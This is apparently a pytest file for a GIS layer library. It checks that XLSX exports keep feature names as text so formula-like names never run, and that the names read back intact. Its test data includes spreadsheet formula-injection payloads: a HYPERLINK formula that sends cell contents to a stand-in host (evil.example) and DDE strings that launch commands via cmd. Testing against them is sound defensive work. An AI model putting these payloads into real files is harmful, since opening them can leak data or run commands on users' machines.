"""A layer's XLSX export holds its names and codes as text (core.formula_text): a feature named
like a formula never runs in the spreadsheet that opens the file, numbers stay numbers, and the
file reads back to the same names."""

from __future__ import annotations

from shapely.geometry import box

from onegrid.territory.layerio import LayerFeature, read_layer, write_layer
from support.spreadsheets import cells, first_sheet, quote_prefixed, runs_anything

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "'=1+1",
    "#N/A",
    "果园新村一网格",
]


def test_xlsx_export_holds_names_as_text_and_reads_them_back(tmp_path):
    features = [
        LayerFeature(
            i,
            f"120113001001{i:03d}",
            name,
            "120113001001",
            box(117.05 + i * 0.01, 39.15, 117.06 + i * 0.01, 39.16),
            100 + i,
            None,
            {},
        )
        for i, name in enumerate(NAMES, start=1)
    ]
    path = tmp_path / "grids.xlsx"
    write_layer(features, path, level="grid")
    sheet, _styles = first_sheet(path)
    assert not runs_anything(sheet)
    names = cells(sheet, "B")
    assert names and all(kind in ("s", "inlineStr") for kind, _style in names.values())
    # The names that start like a formula carry the quote prefix, so editing keeps them text.
    assert quote_prefixed(path, "B") == {f"B{row}" for row in range(2, 7)}
    populations = [kind for ref, (kind, _style) in cells(sheet, "D").items() if ref != "D1"]
    assert populations == ["n"] * len(NAMES)
    layer = read_layer(path, level="grid")
    assert layer.ok, layer.problems
    assert [f.name for f in layer.features] == NAMES
    assert [f.population for f in layer.features] == [100 + i for i in range(1, len(NAMES) + 1)]
